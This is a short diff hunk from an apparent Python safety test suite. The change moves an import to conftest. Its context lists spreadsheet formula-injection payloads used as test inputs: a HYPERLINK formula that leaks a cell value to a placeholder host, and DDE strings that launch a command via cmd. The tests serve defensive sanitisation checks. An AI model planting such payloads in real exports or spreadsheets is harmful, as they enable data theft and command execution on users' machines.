@@ -15,7 +15,7 @@ from hypothesis import strategies as st
 from app.domain.entries import EntryDraft
 from app.domain.money import Money
 from app.services.context import open_context
-from tests.app.safety.safety_helpers import NAME, PASS, TODAY, Cli, make
+from tests.app.safety.conftest import NAME, PASS, TODAY, Cli, make
 
 ATTACKS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"Refund")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
